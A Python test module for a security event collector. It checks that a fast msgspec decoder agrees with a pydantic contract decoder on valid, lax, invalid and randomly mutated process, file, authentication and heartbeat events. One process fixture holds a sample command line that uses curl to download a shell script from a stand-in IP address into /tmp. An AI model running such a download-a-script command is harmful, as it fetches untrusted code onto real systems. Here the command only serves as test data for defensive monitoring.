"""The fast decoder accepts and refuses exactly what the contract's decoder does, and returns the event as
sent. Every case is run through both decoders; none of the verdicts below is written down by hand except
that the invalid table must be refused by msgspec itself (so the fast path really enforces each rule)."""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from typing import Annotated, Any

import msgspec
import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel, Field, field_validator

from collector.decoding import decode, refusal, struct_for
from event_contract import DecodeError, decode_event_document
from event_contract.codec import MAX_MESSAGE_BYTES
from event_contract.ecs import InformationSystem
from event_contract.events import Dataset, ProcessEvent
from tests.support.events import envelope, process_exec, ssh_failure

SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
Document = dict[str, Any]


def rich_process() -> Document:
    event = process_exec("/usr/bin/curl", "curl -s http://198.51.100.7/x.sh -o /tmp/x.sh")
    event["host"].update(ip=["10.0.0.5"], os={"type": "linux", "family": "debian", "kernel": "6.1.0"})
    event["process"].update(
        entity_id="e-1",
        args_count=5,
        start="2026-11-22T08:00:00.123456+07:00",
        end="2026-11-22T01:00:01Z",
        exit_code=0,
        group={"name": "www-data", "id": "33"},
        hash={"sha256": SHA},
    )
    event["user"]["target"] = {"name": "root", "id": "0"}
    event["tags"] = ["web"]
    event["message"] = "exec"
    return event


def rich_file() -> Document:
    event = envelope("canhgac.file", ["file"], ["change"], action="modification", security_level=4)
    event["file"] = {
        "path": "/var/www/html/index.php",
        "name": "index.php",
        "type": "file",
        "size": 1200,
        "mode": "0644",
        "uid": "33",
        "mtime": "2026-11-22T01:00:00Z",
        "hash": {"sha256": SHA},
    }
    event["canhgac"]["file"] = {
        "previous": {"mode": "0600", "size": 10, "hash": {"sha256": SHA}, "mtime": "2026-11-21T01:00:00Z"},
        "changed_fields": ["mode", "size"],
        "classification_marking": "MAT",
    }
    return event


def rich_authentication() -> Document:
    event = ssh_failure("admin", "198.51.100.2")
    event["group"] = {"name": "sudo"}
    event["related"] = {"ip": ["198.51.100.2"], "user": ["admin"]}
    event["canhgac"]["auth"] = {"method": "password", "service": "sshd"}
    return event


def rich_heartbeat() -> Document:
    event = envelope("canhgac.heartbeat", ["host"], ["info"])
    event["event"]["kind"] = "state"
    event["canhgac"]["health"] = {
        "interval_s": 30.5,
        "sensors": {"process": {"status": "degraded", "detail": "polling"}, "file": {"status": "ok"}},
        "spool": {"depth": 3, "bytes": 900, "dropped": 0, "policy": "drop_oldest"},
        "counters": {"events": 120},
    }
    return event


BUILDERS: dict[str, Callable[[], Document]] = {
    "process": rich_process,
    "file": rich_file,
    "authentication": rich_authentication,
    "heartbeat": rich_heartbeat,
    "minimal process": lambda: process_exec("/bin/true", "true"),
    "minimal heartbeat": lambda: envelope("canhgac.heartbeat", ["host"], ["info"]),
}


def contract_verdict(data: bytes) -> bool:
    try:
        decode_event_document(data)
    except DecodeError:
        return False
    return True


def fast_verdict(data: bytes) -> bool:
    try:
        document = decode(data)
    except DecodeError:
        return False
    assert document == orjson.loads(data)  # exactly as sent
    return True


def mutated(builder: str, change: Callable[[Document], object]) -> Document:
    document = BUILDERS[builder]()
    change(document)
    return document


def extended(document: Document, **extra: Any) -> Document:
    return {**document, **extra}


# --- valid events ---------------------------------------------------------------------------------------

VALID: dict[str, Document] = {
    **{name: build() for name, build in BUILDERS.items()},
    "unknown fields of a newer agent": mutated(
        "process", lambda d: d["process"].update(future={"x": [1, 2]}, pid=7) or d.update(brand_new=[1])
    ),
    "explicit nulls": mutated("file", lambda d: d["file"].update(hash=None, mode=None, mtime=None)),
    "integral float for a float": mutated(
        "heartbeat", lambda d: d["canhgac"]["health"].update(interval_s=30)
    ),
    "naive timestamp": mutated("process", lambda d: d.update({"@timestamp": "2026-11-22T01:00:00"})),
}


@pytest.mark.parametrize("name", VALID)
def test_valid_events_are_accepted_by_both_and_kept_as_sent(name: str) -> None:
    data = orjson.dumps(VALID[name])
    assert refusal(orjson.loads(data)) is None, "msgspec alone must accept a canonical event"
    assert contract_verdict(data) is True
    assert decode(data) == VALID[name]
    assert decode(data) == decode_event_document(data)[0]


LAX = {
    # pydantic's lax mode accepts these spellings; msgspec does not, so the contract is asked.
    "name instead of alias": mutated("process", lambda d: d.update(timestamp=d.pop("@timestamp"))),
    "numeric string for an int": mutated("process", lambda d: d["process"].update(pid="4242")),
    "bool for an int": mutated("file", lambda d: d["file"].update(size=True)),
    "date only timestamp": mutated("process", lambda d: d.update({"@timestamp": "2026-11-22"})),
}


@pytest.mark.parametrize("name", LAX)
def test_lax_spellings_the_contract_accepts_are_accepted(name: str) -> None:
    data = orjson.dumps(LAX[name])
    assert refusal(orjson.loads(data)) is not None
    assert contract_verdict(data) is True
    assert decode(data) == LAX[name]


# --- invalid events -------------------------------------------------------------------------------------


def setter(*path: str | int, value: Any) -> Callable[[Document], object]:
    def change(document: Document) -> None:
        target: Any = document
        for step in path[:-1]:
            target = target[step]
        target[path[-1]] = value

    return change


def dropper(*path: str) -> Callable[[Document], object]:
    def change(document: Document) -> None:
        target: Any = document
        for step in path[:-1]:
            target = target[step]
        del target[path[-1]]

    return change


LEVEL = ("canhgac", "system", "security_level")
INVALID: list[tuple[str, Callable[[Document], object], str]] = [
    ("file", setter(*LEVEL, value=0), "canhgac.system.security_level"),
    ("file", setter(*LEVEL, value=6), "canhgac.system.security_level"),
    ("process", setter(*LEVEL, value=1.5), "canhgac.system.security_level"),
    ("process", setter("event", "sequence", value=-1), "event.sequence"),
    ("file", setter("file", "hash", "sha256", value=SHA.upper()), "file.hash.sha256"),
    ("file", setter("file", "hash", "sha256", value=SHA[:-1]), "file.hash.sha256"),
    ("file", setter("file", "hash", "sha256", value=SHA + "\n"), "file.hash.sha256"),
    ("file", setter("canhgac", "file", "previous", "hash", "sha256", value="x"), "previous.hash.sha256"),
    ("file", setter("file", "mode", value="755"), "file.mode"),
    ("file", setter("file", "mode", value="0855"), "file.mode"),
    ("file", setter("file", "mode", value="0755\n"), "file.mode"),
    ("file", setter("file", "mode", value=755), "file.mode"),
    ("file", setter("file", "type", value="pipe"), "file.type"),
    ("file", dropper("file", "path"), "file.path: Field required"),
    ("file", dropper("file"), "file: Field required"),
    ("process", dropper("host"), "host: Field required"),
    ("process", dropper("@timestamp"), "@timestamp: Field required"),
    ("process", dropper("event", "id"), "event.id: Field required"),
    ("process", dropper("event", "sequence"), "event.sequence: Field required"),
    ("process", dropper("process", "pid"), "process.pid: Field required"),
    ("process", dropper("canhgac", "system"), "canhgac.system: Field required"),
    ("process", dropper(*LEVEL), "canhgac.system.security_level: Field required"),
    ("heartbeat", dropper("canhgac", "health", "interval_s"), "canhgac.health.interval_s: Field required"),
    ("process", setter("event", "id", value=""), "event.id"),
    ("process", setter("host", "name", value=""), "host.name"),
    ("process", setter("agent", "version", value=""), "agent.version"),
    ("process", setter("event", "category", value="process"), "event.category"),
    ("process", setter("event", "kind", value="alert"), "event.kind"),
    ("authentication", setter("event", "outcome", value="maybe"), "event.outcome"),
    ("process", setter("process", "pid", value="abc"), "process.pid"),
    ("process", setter("process", "args", value=["curl", 1]), "process.args.1"),
    ("process", setter("tags", value=[1]), "tags.0"),
    ("process", setter("host", "ip", value="10.0.0.5"), "host.ip"),
    ("process", setter("@timestamp", value="yesterday"), "@timestamp"),
    ("process", setter("process", "start", value=[]), "process.start"),
    ("process", setter("user", "target", value="root"), "user.target"),
    ("authentication", setter("source", "port", value=70000), "source.port"),
    ("authentication", setter("related", value={"ip": "198.51.100.2"}), "related.ip"),
    (
        "heartbeat",
        setter("canhgac", "health", "sensors", "file", "status", value="bad"),
        "sensors.file.status",
    ),
    ("heartbeat", setter("canhgac", "health", "counters", value={"events": "many"}), "counters.events"),
    ("heartbeat", setter("canhgac", "health", "spool", value=[]), "canhgac.health.spool"),
    ("heartbeat", setter("message", value=5), "message"),
    ("process", setter("organization", value=None), "organization"),
    ("process", setter("event", "dataset", value="canhgac.nope"), "event.dataset is 'canhgac.nope'"),
    ("process", setter("event", "dataset", value=None), "event.dataset is None"),
    ("process", setter("event", value="process"), "event.dataset is None"),
]


@pytest.mark.parametrize(
    ("builder", "change", "path"), INVALID, ids=[f"{b}-{p}-{i}" for i, (b, _, p) in enumerate(INVALID)]
)
def test_invalid_events_are_refused_by_both_naming_the_field(
    builder: str, change: Callable[[Document], object], path: str
) -> None:
    document = mutated(builder, change)
    data = orjson.dumps(document)
    reason = refusal(document)
    assert reason is not None, "msgspec itself must refuse it, not only the contract"
    assert contract_verdict(data) is False
    with pytest.raises(DecodeError) as refused:
        decode(data)
    assert path in refused.value.reason
    assert "$" not in refused.value.reason


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"\xff{", "not JSON"),
        (b'{"event": ', "not JSON"),
        (b"", "not JSON"),
        (b"[]", "expected a JSON object, got list"),
        (b'"event"', "expected a JSON object, got str"),
        (b"1", "expected a JSON object, got int"),
        (b"null", "expected a JSON object, got NoneType"),
        (b"{}", "event.dataset is None"),
        (b" " * (MAX_MESSAGE_BYTES + 1), "the limit is"),
        (orjson.dumps(extended(rich_process(), padding="x" * MAX_MESSAGE_BYTES)), "the limit is"),
    ],
)
def test_messages_that_are_not_events_are_refused_by_both(data: bytes, reason: str) -> None:
    assert contract_verdict(data) is False
    with pytest.raises(DecodeError, match=reason):
        decode(data)


def test_an_event_just_under_the_limit_is_accepted() -> None:
    document = rich_process()
    room = MAX_MESSAGE_BYTES - len(orjson.dumps(extended(document, padding="")))
    data = orjson.dumps(extended(document, padding="x" * room))
    assert len(data) == MAX_MESSAGE_BYTES
    assert fast_verdict(data) is contract_verdict(data) is True


def wire_fields(model: type[BaseModel]) -> dict[str, msgspec.inspect.Field]:
    info = msgspec.inspect.type_info(struct_for(model))
    assert isinstance(info, msgspec.inspect.StructType)
    return {field.name: field for field in info.fields}


def test_generated_types_carry_the_contract_constraints_and_wire_names() -> None:
    fields = wire_fields(InformationSystem)
    level = fields["security_level"]
    assert isinstance(level.type, msgspec.inspect.IntType)
    assert (level.type.ge, level.type.le, level.required, fields["id"].required) == (1, 5, True, False)
    timestamp = wire_fields(ProcessEvent)["timestamp"]
    assert (timestamp.encode_name, timestamp.required) == ("@timestamp", True)


class _Constrained(BaseModel):
    names: Annotated[list[str], Field(min_length=1)]
    ratio: Annotated[float, Field(gt=0)] | None = None
    level: Dataset = Dataset.FILE


class _UnknownType(BaseModel):
    ids: set[int]


class _UnknownValidator(BaseModel):
    name: str

    @field_validator("name")
    @classmethod
    def _lower(cls, value: str) -> str:
        return value.lower()


def test_constraints_on_containers_and_enums_are_translated() -> None:
    wire = struct_for(_Constrained)
    msgspec.convert({"names": ["a"], "ratio": 0.5, "level": "canhgac.process"}, wire)
    bad: object
    for bad in ({"names": []}, {"names": ["a"], "ratio": 0}, {"names": ["a"], "level": "canhgac.nope"}):
        with pytest.raises(msgspec.ValidationError):
            msgspec.convert(bad, wire)


@pytest.mark.parametrize("model", [_UnknownType, _UnknownValidator])
def test_what_the_translator_cannot_check_fails_loudly(model: type[BaseModel]) -> None:
    with pytest.raises(TypeError, match=r"wire types cannot check|no msgspec translation"):
        struct_for(model)


# --- property: random mutations of valid events --------------------------------------------------------

ODD_VALUES: list[object] = [
    *(None, True, 0, -1, 7, 70000, 2**63, 1.5, 30.0, -0.0, 1e300, 1700000000000),
    *("", "x", "4242", " 5 ", "true", "0755", "0755\n", SHA, "ok", "canhgac.file"),
    *("2026-11-22T01:00:00Z", "2026-11-22", "2026-02-30T00:00:00Z", "2026-11-22T01:00:00+25:00"),
    *([], ["a"], [1], {}, {"a": 1}, {"status": "ok"}, {"sha256": "x"}),
]


def paths(node: Any, prefix: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, child in items:
        yield (*prefix, key)
        yield from paths(child, (*prefix, key))


@st.composite
def mutated_events(draw: st.DrawFn) -> Document:
    document = copy.deepcopy(VALID[draw(st.sampled_from(sorted(BUILDERS)))])
    for _ in range(draw(st.integers(1, 3))):
        candidates = sorted(paths(document), key=repr)
        if not candidates:
            break
        path = draw(st.sampled_from(candidates))
        parent: Any = document
        for step in path[:-1]:
            parent = parent[step]
        if draw(st.booleans()) and isinstance(parent, dict):
            del parent[path[-1]]
        else:
            parent[path[-1]] = copy.deepcopy(draw(st.sampled_from(ODD_VALUES)))
    return document


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated_events())
def test_both_decoders_agree_on_mutated_events(document: Document) -> None:
    data = orjson.dumps(document)
    accepted = contract_verdict(data)
    assert fast_verdict(data) is accepted
    if refusal(document) is None:  # the soundness that matters: msgspec never lets through more
        assert accepted
